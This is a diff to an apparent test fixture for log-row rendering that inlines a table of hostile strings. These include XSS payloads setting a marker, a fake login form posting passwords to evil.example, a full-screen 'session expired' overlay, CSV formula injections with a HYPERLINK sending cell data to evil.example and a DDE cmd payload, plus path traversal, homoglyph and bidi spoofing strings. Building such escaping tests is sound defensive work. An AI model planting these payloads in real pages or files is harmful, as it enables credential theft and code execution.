@@ -1,5 +1,40 @@
-import { hostileLogTexts } from './hostile-log-texts'
 import { LOG_TYPE, logRow, type LogRow } from './log-row'
+
+/** Hostile texts for log entries by id: plain text, HTML and CSV formulas. */
+export const hostileLogTexts: Readonly<Record<string, string>> = {
+  PT01: '<img src=x onerror=window.__xss=1>',
+  PT03: 'javascript:window.__xss=1',
+  PT05: 'admin\u202Enimda',
+  PT07: '\u0430dmin',
+  PT09: '👩‍👩‍👧‍👦 family',
+  PT11: 'a\u0000b\tc\r\nd',
+  PT13: '__proto__',
+  PT15: 'toString',
+  PT17: 'gpt-4,gpt-4o',
+  PT19: '100%&a=1#x?y+z/..;=\\',
+  PT21: '../../user/logout',
+  PT23: '<b>bold</b> &amp; &lt;i&gt;',
+  PT25: '[click](javascript:window.__xss=1) ![x](/api/user/logout)',
+  PH03: '<script>window.__xss=1</script>',
+  PH05: '<a href="java&#x09;script:window.__xss=1">x</a>',
+  PH07: '<iframe src="javascript:parent.__xss=1"></iframe>',
+  PH09: '<form action="https://evil.example/steal"><input name=password type=password><button>Log in again</button></form>',
+  PH13: '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
+  PH15: '<details open ontoggle=window.__xss=1>x</details>',
+  PH27: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.__xss=1'/>">`,
+  PH31: '<img src="/api/user/logout">',
+  PH39: '<div onpointerenter=window.__xss=1 tabindex=1 autofocus contenteditable onfocus=window.__xss=1>z</div>',
+  PC01: '=HYPERLINK("https://evil.example/?"&A1,"x")',
+  PC03: '-2+3',
+  PC05: '@SUM(1)',
+  PC07: '\r=1',
+  PC09: "=cmd|' /C calc'!A0",
+  PC11: 'a,b',
+  PC13: 'a\nb',
+  PC15: '中文',
+  long: 'a word that has no end'.repeat(500),
+  unbroken: 'm'.repeat(300),
+}
 
 const texts = Object.values(hostileLogTexts)
 const MOST_EXACT = Number.MAX_SAFE_INTEGER
